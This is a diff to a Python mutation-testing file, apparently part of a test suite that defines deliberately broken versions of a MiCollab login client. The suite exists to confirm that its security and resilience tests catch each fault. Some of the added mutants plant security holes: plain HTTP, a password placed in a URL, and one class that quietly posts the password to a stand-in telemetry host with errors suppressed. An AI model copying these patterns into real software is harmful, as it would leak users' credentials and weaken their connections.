@@ -6,9 +6,15 @@ tagged with each mutant's `breaks` IDs against it and requires them to fail.
 
 from __future__ import annotations
 
-from clients.driver import Screen
+import contextlib
+from urllib.parse import quote
+
+from clients.driver import ClientSettings, Screen
 from clients.micollab import MiCollabClient
 from clients.micollab import screens as s
+from clients.micollab.api import ApiError, MiCollabApi
+
+TELEMETRY = "telemetry.micollab-client.example"
 
 
 class IgnoresDeploymentLink(MiCollabClient):
@@ -174,6 +180,98 @@ class HidesLockout(MiCollabClient):
         super().show_error("invalid_credentials" if code == "account_locked" else code, **details)
 
 
+class PlainHttp(MiCollabClient):
+    """Talks to the MiCollab server over plain HTTP."""
+
+    breaks = ("SEC-TLS-1",)
+
+    def __init__(self, settings: ClientSettings) -> None:
+        super().__init__(settings)
+        self.api = MiCollabApi(settings, scheme="http")
+
+
+class PasswordInQueryString(MiCollabClient):
+    """Puts the password in a URL as well as in the request body."""
+
+    breaks = ("SEC-CRED-1",)
+
+    def submit_password(self) -> None:
+        self.call("GET", f"/api/v1/license?password={quote(self.field(s.PASSWORD_FIELD))}")
+        super().submit_password()
+
+
+class PasswordToAnotherHost(MiCollabClient):
+    """Sends the password to a host that does not own it."""
+
+    breaks = ("SEC-CRED-1",)
+
+    def submit_password(self) -> None:
+        with contextlib.suppress(ApiError):
+            self.api.call(TELEMETRY, "POST", "/collect", password=self.field(s.PASSWORD_FIELD))
+        super().submit_password()
+
+
+class PhonesHome(MiCollabClient):
+    """Calls a telemetry host outside the platform when it opens."""
+
+    breaks = ("SEC-EGRESS-1",)
+
+    def open_link(self, url: str) -> None:
+        with contextlib.suppress(ApiError):
+            self.api.call(TELEMETRY, "GET", "/ping")
+        super().open_link(url)
+
+
+class LogsOutOnlyLocally(MiCollabClient):
+    """Logout forgets the token but never tells the server."""
+
+    breaks = ("SEC-OUT-1",)
+
+    def logout(self) -> None:
+        self.access_token = None
+        self.show_login_page()
+
+
+class GivesUpOnAServerThatWasDown(MiCollabClient):
+    """Once the server could not be reached, never tries it again."""
+
+    breaks = ("RES-DOWN-1",)
+    unreachable = False
+
+    def show_api_error(self, error: ApiError, host: str | None = None) -> None:
+        self.unreachable = self.unreachable or error.code == "unreachable"
+        super().show_api_error(error, host)
+
+    def submit_password(self) -> None:
+        if self.unreachable:
+            self.show_error("unreachable")
+        else:
+            super().submit_password()
+
+
+class TimesOutTooSoon(MiCollabClient):
+    """Waits half a second for the server, far less than its documented time-out."""
+
+    breaks = ("RES-SLOW-1",)
+
+    def __init__(self, settings: ClientSettings) -> None:
+        super().__init__(settings)
+        self.api = MiCollabApi(ClientSettings(**{**settings.__dict__, "timeout": 0.5}))
+
+
+class StaysHalfLoggedIn(MiCollabClient):
+    """A failure after the password was accepted leaves it on the progressing screen, session open."""
+
+    breaks = ("RES-5XX-1",)
+
+    def abandon_session(self) -> None:
+        pass
+
+    def show_password_page(self) -> None:
+        if self.access_token is None:
+            super().show_password_page()
+
+
 MUTANTS = [
     IgnoresDeploymentLink,
     SkipsLicenseAfterLink,
@@ -192,4 +290,12 @@ MUTANTS = [
     SkipsProgressingScreen,
     ContinuesAfterRefusedDeployment,
     HidesLockout,
+    PlainHttp,
+    PasswordInQueryString,
+    PasswordToAnotherHost,
+    PhonesHome,
+    LogsOutOnlyLocally,
+    GivesUpOnAServerThatWasDown,
+    TimesOutTooSoon,
+    StaysHalfLoggedIn,
 ]
